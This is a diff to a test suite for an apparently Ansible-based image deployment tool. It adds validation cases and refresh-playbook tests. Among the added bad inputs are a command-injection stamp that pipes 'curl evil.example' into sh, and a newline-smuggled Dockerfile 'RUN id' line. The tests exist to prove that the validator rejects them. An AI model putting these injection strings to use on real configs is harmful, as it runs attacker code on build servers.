@@ -30,6 +30,13 @@ BAD_INPUTS = {
         {"vixtract_image_keep": -1},
         'vixtract_image_keep must be a whole number (0 or more) of superseded images each server keeps for a rollback '
         '(got "-1")'),
+    "unknown image refresh period": (
+        {"vixtract_image_refresh": "hourly"},
+        "value of vixtract_image_refresh must be one of: never, daily, weekly, monthly, got: hourly"),
+    "refresh stamp that would add a command to every image build": (
+        {"vixtract_image_refresh_stamp": "x' && curl evil.example | sh #"},
+        "vixtract_image_refresh_stamp must be up to 64 letters, digits or ':._-' (it names a refresh in every image; "
+        'got "x\' && curl evil.example | sh #")'),
     "metrics network without a prefix": (
         {"vixtract_metrics_allow": ["10.0.0.5"]},
         'vixtract_metrics_allow: "10.0.0.5" is not a CIDR. Fix: the network of your Prometheus'),
@@ -176,6 +183,21 @@ def test_good_health_thresholds_pass_validation_and_reach_for_the_servers(run_si
     health_play = out.find("PLAY [Health of every server]")
     assert health_play > 0, out
     assert "UNREACHABLE" not in out[:health_play], out
+    assert rc != 0
+
+
+def test_refresh_yml_with_a_bad_stamp_stops_before_any_server_is_asked(run_site):
+    rc, out = run_site({"vixtract_users": VALID_USERS, "vixtract_image_refresh_stamp": "now\nRUN id"},
+                       playbook="playbooks/refresh.yml")
+    assert_stopped_in_validation(rc, out, "vixtract_image_refresh_stamp must be up to 64 letters")
+
+
+def test_refresh_yml_stamps_every_server_alike_then_deploys(run_site):
+    rc, out = run_site({"vixtract_users": VALID_USERS, "vixtract_check_sources": False},
+                       playbook="playbooks/refresh.yml")
+    assert "PLAY [One refresh stamp for every server]" in out, out
+    deploy = out.find("PLAY [Docker Engine on every server]")
+    assert deploy > 0 and "UNREACHABLE" not in out[:deploy], out
     assert rc != 0
 
 
